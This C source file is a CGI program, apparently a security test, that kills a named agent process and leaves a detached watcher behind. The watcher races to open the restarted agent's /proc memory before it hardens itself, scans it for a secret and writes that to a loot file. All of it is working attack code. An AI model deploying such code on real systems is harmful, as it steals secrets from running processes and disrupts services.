/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile CGI program. It tries to end the agent, and leaves a process
 * behind that waits for the next one, opens its memory in the moment between
 * execve() and prctl(), keeps it open, and reads a secret out of it.
 *
 *   QUERY_STRING: NAME,BEGINNING,PID,FILE
 *
 * NAME is what the kernel calls the agent (/proc/PID/comm), BEGINNING how the
 * secret begins, PID the agent that runs, FILE where the loot goes. The answer
 * says how the kill went; by then the other process watches.
 */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define WATCH 60.0  /* seconds that the next agent may take to come */
#define PERSIST 1.5 /* seconds after which one that is closed stays so */
#define SEARCH 10.0 /* seconds that the secret may take to come */
#define CHUNK ((size_t)1 << 20)
#define SECRET_MAX 64

static char name[32], beginning[32], loot[256];

static struct {
    pid_t pid;    /* of the agent that came; 0: none did */
    long tries;   /* to open its memory, in vain */
    long in_time; /* those before the agent hardened itself */
    int reason;   /* why the last one failed */
    int opened;   /* one of them did not */
    char secret[SECRET_MAX + 1];
} result;

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The pid that was given last, to whomever. */
static pid_t last_pid(void)
{
    FILE *file = fopen("/proc/loadavg", "r");
    int pid = 0;

    if (!file || fscanf(file, "%*s %*s %*s %*s %d", &pid) != 1)
        exit(1);
    fclose(file);
    return pid;
}

static int open_of(pid_t pid, const char *what)
{
    char path[64];

    snprintf(path, sizeof(path), "/proc/%ld/%s", (long)pid, what);
    return open(path, O_RDONLY | O_CLOEXEC);
}

static int is_agent(pid_t pid)
{
    char comm[32];
    int fd = open_of(pid, "comm");
    ssize_t n = fd < 0 ? -1 : read(fd, comm, sizeof(comm) - 1);

    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return 0;
    comm[n - 1] = '\0'; /* its line end */
    return strcmp(comm, name) == 0;
}

/* Upwards: the threads of a process come after it, and bear its name. */
static pid_t find_agent(pid_t first, pid_t last)
{
    for (pid_t pid = first; pid <= last; pid++) {
        if (is_agent(pid))
            return pid;
    }
    return 0;
}

/* Whether an agent has not come to harden itself yet. */
static int is_open(pid_t pid)
{
    char status[4096];
    int fd = open_of(pid, "status");
    ssize_t n = fd < 0 ? -1 : read(fd, status, sizeof(status) - 1);

    if (fd >= 0)
        close(fd);
    status[n > 0 ? n : 0] = '\0';
    return strstr(status, "NoNewPrivs:\t0") != NULL;
}

/* ---- reading ---- */

/* The secret, if it is whole in these octets. */
static int take_secret(const char *octets, size_t n)
{
    const char *at = memmem(octets, n, beginning, strlen(beginning));
    size_t length = 0;

    while (at && length < SECRET_MAX && at + length < octets + n
           && isalnum((unsigned char)at[length]))
        length++;
    if (length <= strlen(beginning))
        return 0;
    memcpy(result.secret, at, length);
    return 1;
}

static int search_range(int mem, unsigned long from, unsigned long to)
{
    static char octets[CHUNK];

    for (; from < to; from += CHUNK) {
        size_t want = to - from < CHUNK ? to - from : CHUNK;
        ssize_t n = pread(mem, octets, want, (off_t)from);

        if (n > 0 && take_secret(octets, (size_t)n))
            return 1;
    }
    return 0;
}

static int search(int mem, FILE *maps)
{
    char line[512], mode[8];
    unsigned long from, to;

    rewind(maps);
    while (fgets(line, sizeof(line), maps)) {
        if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) == 3
            && strncmp(mode, "rw", 2) == 0 && search_range(mem, from, to))
            return 1;
    }
    return 0;
}

/* The memory is open, and stays so whatever the agent does now. */
static void read_secret(int mem, FILE *maps)
{
    const double end = now() + SEARCH;
    const struct timespec pause = { 0, 20000000 };

    result.opened = 1;
    while (!search(mem, maps) && now() < end)
        nanosleep(&pause, NULL);
}

/* ---- racing ---- */

static int try_to_open(void)
{
    int mem = open_of(result.pid, "mem");
    int maps = mem < 0 ? -1 : open_of(result.pid, "maps");

    if (maps >= 0) {
        read_secret(mem, fdopen(maps, "r"));
        return 1;
    }
    result.reason = errno;
    if (mem >= 0)
        close(mem);
    result.in_time += is_open(result.pid);
    result.tries++;
    return 0;
}

static void race(pid_t first)
{
    double end = now() + WATCH;

    while (result.pid == 0 && now() < end)
        result.pid = find_agent(first, last_pid());
    end = now() + PERSIST;
    while (result.pid != 0 && now() < end && !try_to_open())
        ;
}

static void leave_loot(void)
{
    char path[sizeof(loot) + 8];
    FILE *file;

    snprintf(path, sizeof(path), "%s.new", loot);
    file = fopen(path, "w");
    if (!file)
        exit(1);
    fprintf(
        file,
        "pid %ld\ntries %ld\nin_time %ld\nopened %d\nreason %s\nsecret %s\n",
        (long)result.pid, result.tries, result.in_time, result.opened,
        strerror(result.reason), result.secret);
    if (fclose(file) != 0 || rename(path, loot) != 0)
        exit(1);
}

/* In a session of its own, it outlives the request and httpd's restarts. */
static void watch(pid_t first)
{
    int started[2];
    char octet;

    if (pipe(started) != 0)
        exit(1);
    if (fork() != 0) {
        close(started[1]);
        if (read(started[0], &octet, 1) != 1)
            exit(1);
        return;
    }
    setsid();
    (void)!freopen("/dev/null", "r", stdin);
    (void)!freopen("/dev/null", "w", stdout);
    (void)!freopen("/dev/null", "w", stderr);
    (void)!write(started[1], "", 1);
    race(first);
    leave_loot();
    exit(0);
}

int main(void)
{
    const char *query = getenv("QUERY_STRING");
    const char *killed = "done";
    int agent;

    if (!query
        || sscanf(query, "%31[^,],%31[^,],%d,%255s", name, beginning, &agent,
                  loot)
               != 4
        || agent <= 1)
        return 1;
    watch(last_pid() + 1);
    if (kill(agent, SIGKILL) != 0)
        killed = strerror(errno);
    printf("Content-Type: text/plain\n\nkill: %s\n", killed);
    return 0;
}
